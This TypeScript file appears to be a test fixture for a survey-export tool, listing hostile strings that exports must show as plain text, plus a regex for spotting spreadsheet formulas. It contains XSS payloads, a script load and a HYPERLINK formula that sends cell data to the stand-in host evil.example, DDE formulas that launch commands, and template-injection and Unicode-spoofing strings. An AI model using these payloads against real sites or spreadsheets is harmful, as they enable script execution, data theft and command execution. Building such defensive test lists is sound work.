/**
 * Hostile strings that a survey export may carry in question texts, matrix
 * row labels, answers, attribute values and comments: markup that runs
 * script, attribute breakouts, `javascript:` URLs, SVG and MathML vectors,
 * closers of the contexts outputs write into (`</style>`, `]]>`, `</title>`),
 * spreadsheet formulas, Unicode direction and zero-width tricks, and a very
 * long string. Every output must show them as text, never as markup or a
 * formula.
 */
export const MARKUP_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<!-- --><script>alert(1)</script>',
] as const;

export const OTHER_PAYLOADS = [
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u202egnp.exe',
  'java\u200bscript:alert(1)',
  'A'.repeat(5000),
] as const;

export const PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...OTHER_PAYLOADS];

/** Cells a spreadsheet would run as a formula (OWASP CSV injection): they must get a leading apostrophe. */
export const FORMULA_START = /^[=+\-@\t\r]/;
